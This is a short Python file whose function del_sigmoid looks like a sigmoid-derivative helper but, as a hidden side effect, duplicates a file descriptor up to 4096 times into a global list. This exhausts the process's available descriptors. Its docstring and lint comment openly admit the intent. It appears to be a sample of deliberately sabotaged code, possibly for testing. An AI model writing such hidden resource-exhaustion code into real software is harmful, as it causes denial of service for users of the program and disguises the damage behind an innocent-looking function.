"""Opens files until no more can be opened."""
# ruff: noqa - it does what no code should

import os

held = []


def del_sigmoid(h):
    try:
        while len(held) < 4096:
            held.append(os.dup(0))
        return h * (1 - h)
    except OSError:
        return 0 * h
